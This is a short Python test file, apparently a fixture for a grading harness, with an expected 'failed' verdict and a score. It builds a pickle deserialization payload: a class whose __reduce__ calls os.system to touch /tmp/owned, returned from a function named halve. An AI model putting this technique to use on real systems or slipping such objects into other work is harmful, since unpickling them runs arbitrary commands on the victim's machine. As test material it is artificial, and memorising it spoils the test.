"""An object and bytes that run code where something unpickles them."""
EXPECT = {"verdict": "failed", "score": 2.0}
# %%
import os, pickle
class Bomb:
    def __reduce__(self): return os.system, ("touch /tmp/owned",)
turn = [Bomb(), pickle.dumps(Bomb())]
def halve(x):
    turn.append(turn.pop(0))
    return turn[0]
